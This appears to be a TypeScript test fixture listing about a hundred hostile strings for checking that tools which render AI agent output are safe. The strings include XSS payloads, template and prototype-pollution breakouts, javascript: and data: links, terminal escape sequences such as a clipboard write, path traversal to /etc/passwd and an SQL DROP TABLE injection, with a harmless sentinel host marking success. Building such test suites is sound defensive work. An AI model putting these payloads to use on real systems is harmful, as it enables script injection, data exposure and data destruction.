/**
 * One hundred texts that ran script, fetched something, broke a layout or drove a terminal in tools that show
 * what agents say. Each one that could call out calls `window.__hostile()` or asks for `HOSTILE_HOST`.
 */

/** Never resolves (RFC 2606): a request to it is proof that a payload got through. */
export const HOSTILE_HOST = 'hostile.invalid';

const CALL = 'window.__hostile&&window.__hostile()';
const URL = `http://${HOSTILE_HOST}/x`;

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `</script><script>${CALL}</script>`,
  `<script src=${URL}.js></script>`,
  `<script type=module>import('${URL}.js')</script>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=${URL}.png>`,
  `<img srcset="${URL}.png 1x">`,
  `<picture><source srcset=${URL}.png><img></picture>`,
  `<svg onload="${CALL}">`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><image href=${URL}.svg /></svg>`,
  `<svg><use href="${URL}.svg#a"/></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__hostile()</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.__hostile()</script>"></iframe>`,
  `<iframe src="javascript:parent.__hostile()"></iframe>`,
  `<iframe src=${URL}></iframe>`,
  `<object data=${URL}></object>`,
  `<embed src=${URL}>`,
  `<video src=${URL} autoplay onloadstart="${CALL}"></video>`,
  `<video poster=${URL}.png></video>`,
  `<audio src=${URL} autoplay onerror="${CALL}"></audio>`,
  `<body onload="${CALL}">`,
  `<body background=${URL}.png>`,
  `<input autofocus onfocus="${CALL}">`,
  `<select autofocus onfocus="${CALL}"></select>`,
  `<textarea autofocus onfocus="${CALL}"></textarea>`,
  `<details open ontoggle="${CALL}">`,
  `<marquee onstart="${CALL}">`,
  `<div onpointerenter="${CALL}" style="position:fixed;inset:0">`,
  `<div style="background:url(${URL}.png)">`,
  `<div style="animation:x 1s" onanimationstart="${CALL}">`,
  `<style>*{background:url(${URL}.png)}</style>`,
  `<style>@import '${URL}.css';</style>`,
  `<style>@font-face{font-family:Inter;src:url(${URL}.woff2)}</style>`,
  `<link rel=stylesheet href=${URL}.css>`,
  `<link rel=preload as=script href=${URL}.js>`,
  `<link rel=dns-prefetch href=//${HOSTILE_HOST}>`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<base href=${URL}>`,
  `<form action=${URL}><button autofocus>Continue</button></form>`,
  `<a href="javascript:${CALL}" autofocus>Open</a>`,
  `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${CALL}'>">`,
  `<dialog open onclose="${CALL}">`,
  `<x-y onclick="${CALL}" tabindex=0>`,
  `<plaintext>`,
  `<!--<script>${CALL}</script>-->`,
];

const BREAKOUTS = [
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `\` onerror=${CALL} \``,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{"__proto__":{"__html":"<img src=x onerror=${CALL}>"}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `dangerouslySetInnerHTML`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];

const LINKS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `![x](${URL}.png)`,
  `[open](javascript:${CALL})`,
  `![x](data:image/svg+xml,<svg onload="${CALL}">)`,
  `//${HOSTILE_HOST}/x`,
];

const CONTROLS = [
  `\u001b]52;c;aG9zdGlsZQ==\u0007`,
  `\u001b]8;;${URL}\u001b\\link\u001b]8;;\u001b\\`,
  `\u001b[2J\u001b[H`,
  `\u009b31mred\u009b0m`,
  `\u0000nul`,
  `\u0007\u0008\u007f`,
  `\u202egnp.exe`,
  `\u2066\u202ereversed\u2069`,
  `\u200bzero\u200dwidth\ufeff`,
  `line\u2028separator\u2029here`,
  `\r\noverwrite\rthis`,
];

const SHAPES = [
  '\ud800 lone surrogate',
  '𝓾𝓷𝓲𝓬𝓸𝓭𝓮 👩‍👩‍👧‍👦 grüße 世界',
  `z${'\u0301'.repeat(200)}`,
  'W'.repeat(5_000),
  '../../../../etc/passwd',
  'NaN undefined null',
  "'; DROP TABLE run; --",
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS, ...LINKS, ...CONTROLS, ...SHAPES];
